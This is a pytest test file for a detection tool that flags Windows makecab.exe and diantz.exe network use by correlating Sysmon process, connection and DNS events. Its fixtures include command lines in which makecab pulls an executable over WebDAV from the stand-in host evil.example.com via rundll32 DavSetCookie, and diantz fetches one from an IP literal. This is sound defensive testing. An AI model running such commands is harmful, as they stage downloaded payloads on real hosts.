"""Network rules: direct EID 3, the ProcessGuid link to renamed copies, and the 60 s sliding window."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

import pytest

from cabhunt.detect import detect
from cabhunt.detect.network import match_destination, parse_answers
from tests.detect.helpers import make_store, proc

S32 = "C:\\Windows\\System32\\"
T0 = datetime(2026, 3, 2, 10, 0, 50)  # 10 s before a minute boundary


def at(delta_s: float) -> str:
    return (T0 + timedelta(seconds=delta_s)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def job(cmd: str = r"makecab.exe \\fs09\pub\a.exe C:\Users\Public\a.cab", **kw: Any) -> dict[str, Any]:
    return proc(cmd, ProcessGuid="{job}", UtcTime=at(0), **kw)


def smb(delta_s: float, host: str | None = "fs09.corp.example.com", ip: str = "10.9.9.9", **kw: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "EventID": 3, "Computer": "WS01", "Image": "System", "ProcessId": 4,
        "DestinationIp": ip, "DestinationPort": 445, "UtcTime": at(delta_s),
    }
    if host:
        ev["DestinationHostname"] = host
    ev.update(kw)
    return ev


def network(events: list[dict[str, Any]]) -> list[Any]:
    return [a for a in detect(make_store(events)) if a.rule.slug.endswith("network")]


@pytest.mark.parametrize(("delta", "expected"), [(0.0, 1), (59.9, 1), (60.0, 1), (60.1, 0), (-0.5, 0)])
def test_window_edges(delta: float, expected: int) -> None:
    assert len(network([job(), smb(delta)])) == expected


def test_sliding_not_tumbling() -> None:
    """Start at hh:00:50, connection at hh:01:40: different minute buckets, 50 s apart: matches."""
    [a] = network([job(), smb(50)])
    assert a.extra["correlation"]["delay_s"] == pytest.approx(50)
    assert a.extra["correlation"]["kind"] == "smb_system"
    assert a.rule.slug == "makecab_network" and a.rule.id == "CNC-E-2726320-168"
    assert a.destination == {"ip": "10.9.9.9", "port": 445, "domain": "fs09.corp.example.com", "scope": "internal", "ip_literal": False}
    assert "net.corroborated" in a.finding_ids() and "source.smb" in a.finding_ids()


def test_other_host_or_other_destination_does_not_match() -> None:
    assert network([job(), smb(5, Computer="WS02")]) == []
    assert network([job(), smb(5, host="other.corp.example.com", ip="10.1.1.1")]) == []


def test_destination_by_dns_answer() -> None:
    dns = {"EventID": 22, "Computer": "WS01", "Image": S32 + "makecab.exe", "QueryName": "fs09.corp.example.com",
           "QueryResults": "::ffff:10.9.9.9;", "UtcTime": at(1)}
    [a] = network([job(), dns, smb(2, host=None)])
    assert a.extra["correlation"]["matched_by"] == "dns"
    assert network([job(), smb(2, host=None)]) == []  # no name, no answer: not attributed


def test_ip_literal_source_matches_destination_ip() -> None:
    [a] = network([job(r"diantz.exe \\198.51.100.7\s\x.exe C:\x.cab", image=S32 + "diantz.exe"), smb(3, host=None, ip="198.51.100.7")])
    assert a.rule.slug == "diantz_network" and a.rule.id == "CNC-E-2726320-142"
    assert a.destination is not None and a.destination["ip_literal"] and a.destination["scope"] == "external"
    assert a.extra["correlation"]["matched_by"] == "ip"


def test_webclient_and_davsetcookie() -> None:
    cmd = r"makecab.exe \\evil.example.com@SSL\DavWWWRoot\p.exe C:\Users\Public\p.cab"
    web = {"EventID": 3, "Computer": "WS01", "Image": S32 + "svchost.exe", "DestinationIp": "203.0.113.5",
           "DestinationPort": 443, "DestinationHostname": "evil.example.com", "UtcTime": at(2)}
    dav = proc(r"rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie evil.example.com https://evil.example.com/DavWWWRoot/",
               image=S32 + "rundll32.exe", UtcTime=at(1))
    alerts = network([job(cmd), web, dav])
    kinds = sorted(a.extra["correlation"]["kind"] for a in alerts)
    assert kinds == ["davsetcookie", "webclient"]
    by_kind = {a.extra["correlation"]["kind"]: a for a in alerts}
    web_dest = by_kind["webclient"].destination
    assert web_dest is not None and web_dest["scope"] == "external" and web_dest["port"] == 443
    dav_dest = by_kind["davsetcookie"].destination
    assert dav_dest is not None and dav_dest["domain"] == "evil.example.com" and dav_dest["ip"] is None
    for a in alerts:
        assert "source.webdav" in a.finding_ids()


def test_direct_eid3_and_renamed_copy_by_process_guid() -> None:
    renamed = proc(r"C:\Temp\m.exe C:\d\a.txt C:\d\a.cab", image=r"C:\Temp\m.exe", OriginalFileName="makecab.exe",
                   ProcessGuid="{r}", UtcTime=at(0))
    conn = {"EventID": 3, "Computer": "WS01", "Image": r"C:\Temp\m.exe", "ProcessGuid": "{r}",
            "DestinationIp": "203.0.113.9", "DestinationPort": 8443, "UtcTime": at(1)}
    direct = {"EventID": 3, "Computer": "WS01", "Image": S32 + "diantz.exe", "DestinationIp": "10.0.0.6",
              "DestinationPort": 445, "UtcTime": at(2)}
    alerts = network([renamed, conn, direct])
    by_slug = {a.rule.slug: a for a in alerts}
    assert set(by_slug) == {"makecab_network", "diantz_network"}
    m = by_slug["makecab_network"]
    assert m.process["executable"] == r"C:\Temp\m.exe"
    assert {"image.renamed", "net.nonstandard_port", "net.external", "net.ip_literal"} <= set(m.finding_ids())
    assert m.destination is not None and m.destination["port"] == 8443
    assert by_slug["diantz_network"].extra["network_match"] == "direct"


def test_ids_are_stable() -> None:
    events = [job(), smb(5)]
    assert [a.id for a in detect(make_store(events))] == [a.id for a in detect(make_store(events))]


def test_parse_answers() -> None:
    assert parse_answers("type:  5 fs.example.com;::ffff:10.1.2.3;10.1.2.4;") == {"10.1.2.3", "10.1.2.4"}
    assert parse_answers(None) == set()


def test_match_destination_prefers_literal_ip_then_name() -> None:
    row = {"event_code": 3, "destination_ip": "10.0.0.1", "destination_domain": "fs01.corp.local"}
    assert match_destination([("fs01", None)], row, "ws", {}) == ("fs01", "name")
    assert match_destination([("10.0.0.1", "10.0.0.1")], row, "ws", {}) == ("10.0.0.1", "ip")
    assert match_destination([("fs02", None)], row, "ws", {}) is None


def _fleetlike() -> list[dict[str, Any]]:
    """Two hosts, jobs at several times, SMB/WebClient traffic inside and outside their windows,
    a DNS answer, and a renamed copy with its own connection."""
    evs: list[dict[str, Any]] = []
    for i, (host, delta) in enumerate([("WS01", 0), ("WS01", 30), ("WS01", 600), ("WS02", 5), ("WS02", 4000)]):
        evs.append(proc(rf"makecab.exe \\fs0{i}\pub\a.exe C:\Users\Public\a{i}.cab", Computer=host,
                        ProcessGuid=f"{{job{i}}}", UtcTime=at(delta)))
        evs.append(smb(delta + 20, host=f"fs0{i}.corp.example.com", Computer=host))
        evs.append(smb(delta + 90, host=f"fs0{i}.corp.example.com", ip="10.8.8.8", Computer=host))  # too late
    evs.append({"EventID": 22, "Computer": "WS02", "QueryName": "fs03.corp.example.com", "QueryResults": "10.7.7.7;",
                "UtcTime": at(4)})
    evs.append(smb(8, host=None, ip="10.7.7.7", Computer="WS02"))
    evs.append(proc(r"C:\Temp\m.exe C:\d\a.txt C:\d\a.cab", image=r"C:\Temp\m.exe", OriginalFileName="makecab.exe",
                    ProcessGuid="{r}", UtcTime=at(0)))
    evs.append({"EventID": 3, "Computer": "WS01", "Image": r"C:\Temp\m.exe", "ProcessGuid": "{r}",
                "DestinationIp": "203.0.113.9", "DestinationPort": 8443, "UtcTime": at(1)})
    return evs


def _summary(alerts: list[Any]) -> list[tuple[Any, ...]]:
    return sorted((a.id, a.rule.slug, a.score, tuple(a.event_uids), a.extra.get("network_match")) for a in alerts)


def test_coarser_query_ranges_and_subqueries_give_the_same_alerts(monkeypatch: pytest.MonkeyPatch) -> None:
    """The network query may fetch a superset (merged windows, one span, GUID subqueries):
    the exact join in Python must make the alerts identical."""
    import cabhunt.detect.network as net

    store = make_store(_fleetlike())
    precise = _summary(detect(store))
    assert {s for _, s, *_ in precise} >= {"makecab_download_cab", "makecab_network"}
    assert sum(1 for *_, m in precise if m == "correlated") >= 3
    for windows, literals, names in [(1, 500, 50), (0, 500, 50), (64, 0, 0)]:
        monkeypatch.setattr(net, "MAX_WINDOWS", windows)
        monkeypatch.setattr(net, "MAX_LITERALS", literals)
        monkeypatch.setattr(net, "MAX_NAMES", names)
        assert _summary(detect(store)) == precise


def test_time_range_limits_direct_and_correlated_connections() -> None:
    store = make_store(_fleetlike())
    since = datetime(2026, 3, 2, 10, 0, 55)
    until = datetime(2026, 3, 2, 10, 11, 0)
    inside = [a for a in detect(store, since=since, until=until) if a.rule.slug.endswith("network")]
    everything = [a for a in detect(store) if a.rule.slug.endswith("network")]
    assert 0 < len(inside) < len(everything)
    for a in inside:
        assert "2026-03-02T10:00:55" <= a.timestamp <= "2026-03-02T10:12:00.000Z"
